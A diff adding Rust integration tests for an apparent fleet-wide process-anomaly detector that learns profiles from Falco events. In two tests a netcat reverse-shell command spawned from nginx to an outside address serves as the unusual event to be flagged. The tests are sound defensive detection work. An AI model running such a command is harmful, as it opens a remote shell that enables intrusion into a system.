@@ -4,7 +4,7 @@ use std::path::Path;
 
 use serde_json::{Value, json};
 
-use crate::program::{run, run_with_input};
+use crate::program::{Served, lanner, run, run_with_input, serve};
 
 /// A program that was started, as Falco writes it.
 fn event(minute: u32, parent: &str, line: &str) -> String {
@@ -151,4 +151,93 @@ fn profiles_are_kept_merged_and_unlearned() {
     for part in ["fields[0]: \"hash\" is not a function", "profiles[0].where", "profiles[0].by"] {
         assert!(told.out.contains(part), "{told:?}");
     }
+}
+
+/// A server whose processor gathers what hosts tell.
+fn fleet() -> Served {
+    let server = serve(tempfile::tempdir().unwrap(), &[]);
+    let config = server.file(
+        "fleet.yaml",
+        "processors:\n  - id: usual\n    stream: falco\n    profile:\n      fields: [proc.exepath, proc.pname, template(proc.cmdline)]\n      \
+         where: 'evt.type in (execve, execveat)'\n      common: 2\n      memory: 1\n",
+    );
+    server.run(&["apply", &config]).expect(0);
+    server
+}
+
+/// Events of one host, on standard input of `lanner profile watch` as the host `name`.
+fn watched(server: &Served, name: &str, profile: &str, events: &str) -> crate::program::Ran {
+    use std::io::Write as _;
+    let mut command = lanner();
+    command.args([
+        "profile", "watch", profile, "--fleet", "usual", "--host", name, "--stream", "unusual", "--output",
+        "json", "-",
+    ]);
+    command.env("LANNER_URL", &server.url).stdin(std::process::Stdio::piped());
+    command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    child.stdin.take().unwrap().write_all(events.as_bytes()).unwrap();
+    child.wait_with_output().unwrap().into()
+}
+
+#[test]
+fn hosts_tell_one_another_what_is_common() {
+    let server = fleet();
+    let events = server.file("usual.json", usual());
+    let learn = |name: &str| {
+        let path = server.path(&format!("{name}.profile"));
+        server
+            .run(&["profile", "learn", "--fleet", "usual", "--out", &path, &events])
+            .says(0, &["usual: learned 2880 events"]);
+        path
+    };
+    let hosts = ["a", "b", "c"].map(|name| (name, learn(name)));
+    // Two hosts run the new version of a program; nothing of that is known anywhere before.
+    let update = event(2_900, "systemd", "apt-get upgrade -y");
+    for (name, profile) in &hosts[..2] {
+        let found = watched(&server, name, profile, &update).expect(1);
+        let found: Value = serde_json::from_str(&found).unwrap();
+        let known = if *name == "a" { 0 } else { 1 };
+        assert_eq!(found["answer"]["fleet"]["seen_on"], known, "{name}: {found}");
+    }
+    let found =
+        watched(&server, "c", &hosts[2].1, &(update + &event(2_901, "nginx", "nc -e sh 203.0.113.7 4444")))
+            .expect(1);
+    let found: Vec<Value> = found.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(found[0]["answer"]["fleet"], json!({ "seen_on": 2, "hosts": 3, "common": true }));
+    assert_eq!(found[1]["answer"]["fleet"], json!({ "seen_on": 0, "hosts": 3, "common": false }));
+    assert!(found[0]["message"].as_str().unwrap().ends_with("in the fleet on 2 of 3 hosts"), "{}", found[0]);
+
+    // What each found is on the stream, where rules count it.
+    let sent = server.run(&["export", "--stream", "unusual"]).expect(0);
+    let common = sent.lines().filter(|line| line.contains("\"common\":true")).count();
+    assert_eq!((sent.lines().count(), common), (4, 1), "{sent}");
+
+    // The file of another fleet is refused with what to do, and so is a processor that is none.
+    let own = server.path("own.profile");
+    run(&["profile", "learn", "--out", &own, &events]).expect(0);
+    watched(&server, "d", &own, "").says(2, &["no profile \"usual\"", "learn --fleet usual"]);
+    let missing = server.path("missing.profile");
+    server
+        .run(&["profile", "learn", "--fleet", "usaul", "--out", &missing, &events])
+        .says(3, &["no processor with a profile", "--fleet names a processor"]);
+}
+
+/// A host goes on without its server, and says so once.
+#[test]
+fn a_host_goes_on_without_its_server() {
+    let server = fleet();
+    let events = server.file("usual.json", usual());
+    let profile = server.path("host.profile");
+    server.run(&["profile", "learn", "--fleet", "usual", "--out", &profile, &events]).expect(0);
+    let strange = server.file("strange.json", event(2_900, "nginx", "nc -e sh 203.0.113.7 4444"));
+    let url = server.url.clone();
+    let folder = server.kill();
+    let mut command = lanner();
+    command.args(["profile", "watch", &profile, "--fleet", "usual", "--url", &url, &strange]);
+    let ran = crate::program::Ran::from(command.output().unwrap());
+    assert!(ran.out.contains("never seen: proc.exepath"), "{ran:?}");
+    assert_eq!(ran.err.matches("the fleet: no answer from 127.0.0.1").count(), 1, "{ran:?}");
+    ran.expect(1);
+    drop(folder);
 }
